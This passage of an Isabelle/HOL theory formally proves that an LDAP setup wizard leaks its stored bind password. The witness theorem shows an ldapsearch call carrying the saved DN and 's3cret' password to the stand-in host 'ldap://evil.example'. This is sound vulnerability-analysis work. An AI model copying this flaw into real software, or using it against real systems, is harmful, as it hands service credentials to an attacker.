    and "validate_ldap_uri uri = Ok uri"
    and "\<And>n. check_ldap_reachability (wz_probes w n) (extract_host_from_uri uri) uri = Reachable"
  shows "\<exists>call \<in> set (bind_calls (fold (serve_setup w) [PostTest2 uri, PostContinue2 uri, GetStatus3] s)).
    take 8 (call_args call) = [''10'', ''ldapsearch'', ''-H'', uri, ''-D'', ldap_default_bind_dn (sssd c), ''-w'', ldap_default_authtok (sssd c)]"
proof -
  define s1 where "s1 = fold (serve_setup w) [PostTest2 uri, PostContinue2 uri] s"
  have s1: "load_lenient (pr_env (probes_now w s1)) (conf_parsed (probes_now w s1)) = Ok (c\<lparr>ldap_uri := uri\<rparr>)"
    unfolding s1_def by (rule configured_probes[OF setup_moves_server[OF assms(1,2,4,5)]])
  have "\<not> is_blank uri" by (rule validate_ldap_uri_not_blank[OF assms(4)])
  moreover have "\<not> bind_fields_blank (c\<lparr>ldap_uri := uri\<rparr>)" using assms(3) by (simp add: bind_fields_blank_def)
  ultimately have "bind_calls (serve_setup w GetStatus3 s1) = bind_calls s1 @ [bind_probe_call (c\<lparr>ldap_uri := uri\<rparr>)]"
    using s1 by (simp add: serve_setup_def handle_def setup_step3_status_def run_bind_probe_from_disk_def bind_probe_def)
  then show ?thesis
    by (simp add: s1_def bind_probe_call_def Let_def)
qed

section \<open>Sample installation\<close>

text \<open>
  A document format that meets \<open>toml_sound\<close>: a text is a sequence of assignments, the latest first,
  each a letter for its key, the characters of the value, each after an \<open>x\<close>, and an end mark.
\<close>

definition sample_assign :: "char \<Rightarrow> string \<Rightarrow> string \<Rightarrow> string" where
  "sample_assign k v d = k # concat (map (\<lambda>c. [CHR ''x'', c]) v) @ CHR ''.'' # d"

fun sample_value :: "string \<Rightarrow> string \<times> string" where
  "sample_value (m # c # d) =
     (if m = CHR ''x'' then (case sample_value d of (v, rest) \<Rightarrow> (c # v, rest)) else ([], c # d))"
| "sample_value d = ([], [])"

lemma sample_value_assigned: "sample_value (concat (map (\<lambda>c. [CHR ''x'', c]) v) @ CHR ''.'' # d) = (v, d)"
  by (induction v) (cases d, simp_all)

lemma sample_value_length: "length (snd (sample_value d)) \<le> length d"
  by (induction d rule: sample_value.induct) (auto simp: case_prod_beta)

definition sample_apply :: "char \<Rightarrow> string \<Rightarrow> NfsKlldapConfig \<Rightarrow> NfsKlldapConfig" where
  "sample_apply k v c =
     (if k = CHR ''u'' then c\<lparr>ldap_uri := v\<rparr>
      else if k = CHR ''d'' then c\<lparr>sssd := (sssd c)\<lparr>ldap_default_bind_dn := v\<rparr>\<rparr>
      else c\<lparr>sssd := (sssd c)\<lparr>ldap_default_authtok := v\<rparr>\<rparr>)"

function sample_conf :: "string \<Rightarrow> NfsKlldapConfig" where
  "sample_conf [] = default_config"
| "sample_conf (k # d) = sample_apply k (fst (sample_value d)) (sample_conf (snd (sample_value d)))"
  by pat_completeness auto
termination
  by (relation "measure length") (use sample_value_length in \<open>auto simp: less_Suc_eq_le\<close>)

lemma sample_conf_assigned [simp]: "sample_conf (sample_assign k v d) = sample_apply k v (sample_conf d)"
  by (simp add: sample_assign_def sample_value_assigned)

definition sample_toml :: "string toml" where
  "sample_toml =
     \<lparr>t_parse = Some, t_new = [], t_get = (\<lambda>_ _. None), t_set = (\<lambda>_. sample_assign CHR ''u''), t_or_table = (\<lambda>_ d. d),
      t_is_table = (\<lambda>_ _. True), t_set_in = (\<lambda>_ k. sample_assign (if k = ''ldap_default_bind_dn'' then CHR ''d'' else CHR ''p'')),
      t_text = (\<lambda>d. d), t_conf = (\<lambda>t. Ok (sample_conf t))\<rparr>"

lemma sample_toml_sound: "toml_sound sample_toml"
  by (simp add: toml_sound_def sample_toml_def sample_apply_def)

definition sample_wizard_os :: "string wizard_os" where
  "sample_wizard_os =
     \<lparr>wz_toml = sample_toml, wz_probes = (\<lambda>_. sample_probes), wz_save = (\<lambda>_. Ok ()), wz_mark_ok = (\<lambda>_. True),
      wz_clock = (\<lambda>n. 1000 * n), wz_recycle = sample_recycle\<rparr>"

definition sample_document :: string where
  "sample_document =
     sample_assign CHR ''p'' ''s3cret'' (sample_assign CHR ''d'' ''uid=svc'' (sample_assign CHR ''u'' ''ldaps://kl.home.arpa'' []))"

definition sample_installed :: wizard where
  "sample_installed =
     \<lparr>wz_conf = Some sample_document, wz_marker = True, step2_uri = None, step3_dn = None, step3_pw = None,
      wz_latch = idle_latch, wz_looks = 0, bind_calls = []\<rparr>"

lemma sample_configured: "configured sample_wizard_os sample_document (sample_conf sample_document) sample_installed"
  by (simp add: configured_def sample_wizard_os_def sample_installed_def sample_toml_def sample_probes_def)

lemma sample_answers:
  "check_ldap_reachability (wz_probes sample_wizard_os n) h uri = Reachable"
  "check_ldap_bind (wz_probes sample_wizard_os n) c = Ok ()"
  by (simp_all add: sample_wizard_os_def sample_probes_def check_ldap_reachability_def check_ldap_bind_def)

lemma sample_uri: "validate_ldap_uri ''ldap://evil.example'' = Ok ''ldap://evil.example''"
  by code_simp


theorem setup_status_leaks_password_witness:
  "\<exists>call \<in> set (bind_calls (fold (serve_setup sample_wizard_os)
     [PostTest2 ''ldap://evil.example'', PostContinue2 ''ldap://evil.example'', GetStatus3] sample_installed)).
   take 8 (call_args call) = [''10'', ''ldapsearch'', ''-H'', ''ldap://evil.example'', ''-D'', ''uid=svc'', ''-w'', ''s3cret'']"
proof -
  have creds: "ldap_default_bind_dn (sssd (sample_conf sample_document)) = ''uid=svc''"
    "ldap_default_authtok (sssd (sample_conf sample_document)) = ''s3cret''"
    by (simp_all add: sample_document_def sample_apply_def)
  have "\<not> is_blank ''uid=svc''" "\<not> is_blank ''s3cret''" by code_simp+
  then have "\<not> bind_fields_blank (sample_conf sample_document)" by (simp add: bind_fields_blank_def creds)
  moreover have "toml_sound (wz_toml sample_wizard_os)" by (simp add: sample_wizard_os_def sample_toml_sound)
  ultimately show ?thesis
    using setup_status_leaks_password[OF _ sample_configured _ sample_uri sample_answers(1)] by (simp add: creds)
qed

definition sample_tested :: wizard where
  "sample_tested = fold (serve_setup sample_wizard_os) [PostTest2 ''ldap://evil.example''] sample_installed"


text \<open>
  An unreadable or broken file is replaced by a new document with the one key, and an \<open>sssd\<close>
  that is no table keeps its credentials although the wizard reports success.
\<close>

lemma broken_conf_replaced:
  assumes "wz_conf s = Some raw" "t_parse (wz_toml w) raw = None" "wz_save w (wz_looks s) = Ok ()"
  shows "wz_conf (snd (write_ldap_uri w uri s)) = Some (t_text (wz_toml w) (t_set (wz_toml w) ''ldap_uri'' (trim uri) (t_new (wz_toml w))))"
  using assms by (simp add: write_ldap_uri_def atomic_write_config_def document_def)

lemma inline_sssd_not_saved:
  assumes "\<not> t_is_table (wz_toml w) ''sssd'' (t_or_table (wz_toml w) ''sssd'' (document w s))" "wz_save w (wz_looks s) = Ok ()"
  shows "write_bind_creds w dn pw s
    = (Ok (), s\<lparr>wz_conf := Some (t_text (wz_toml w) (t_or_table (wz_toml w) ''sssd'' (document w s)))\<rparr>)"
  using assms by (simp add: write_bind_creds_def atomic_write_config_def set_bind_creds_def Let_def)

end
